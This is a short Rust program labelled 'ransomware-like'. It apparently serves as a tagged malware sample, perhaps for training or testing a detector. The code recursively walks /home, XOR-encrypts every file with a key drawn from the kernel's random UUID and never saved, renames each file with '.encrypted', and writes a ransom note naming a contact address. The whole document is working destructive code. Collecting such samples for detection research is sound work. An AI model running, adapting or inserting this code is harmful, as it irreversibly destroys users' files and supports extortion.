// class: ransomware-like; style: recursion, xor
use std::fs;
use std::path::Path;

fn walk(dir: &Path, key: &[u8]) -> std::io::Result<()> {
    for entry in fs::read_dir(dir)? {
        let path = entry?.path();
        if path.is_dir() {
            let _ = walk(&path, key);
        } else if let Ok(mut data) = fs::read(&path) {
            for (i, b) in data.iter_mut().enumerate() {
                *b ^= key[i % key.len()];
            }
            fs::write(&path, &data)?;
            let mut name = path.clone().into_os_string();
            name.push(".encrypted");
            fs::rename(&path, name)?;
        }
    }
    Ok(())
}

fn main() {
    let key = fs::read("/proc/sys/kernel/random/uuid").unwrap();
    let _ = walk(Path::new("/home"), &key);
    let _ = fs::write("/home/README_DECRYPT.txt", "contact: restore@dcrypt.example\n");
}
